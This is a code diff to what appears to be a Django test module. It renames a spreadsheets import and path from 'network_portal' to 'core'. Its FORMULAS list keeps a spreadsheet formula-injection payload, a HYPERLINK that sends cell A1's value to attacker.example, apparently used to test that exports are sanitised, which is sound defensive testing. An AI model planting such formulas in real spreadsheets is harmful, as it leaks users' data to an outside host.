@@ -12,7 +12,7 @@ from django.utils import timezone, translation
 from django.utils.translation import gettext_lazy
 from openpyxl import load_workbook
 
-from network_portal import spreadsheets
+from core import spreadsheets
 
 FORMULAS = [
     '=HYPERLINK("https://attacker.example/?d="&A1,"Click")',
@@ -137,7 +137,7 @@ def _portal_sources(root: Path):
 
 def test_no_table_is_written_except_through_the_shared_writer():
     root = Path(settings.BASE_DIR)
-    shared = root / "network_portal" / "spreadsheets.py"
+    shared = root / "core" / "spreadsheets.py"
     writing = re.compile(
         r"csv\.writer|csv\.DictWriter|^\s*(?:from|import)\s+openpyxl\b", re.MULTILINE
     )
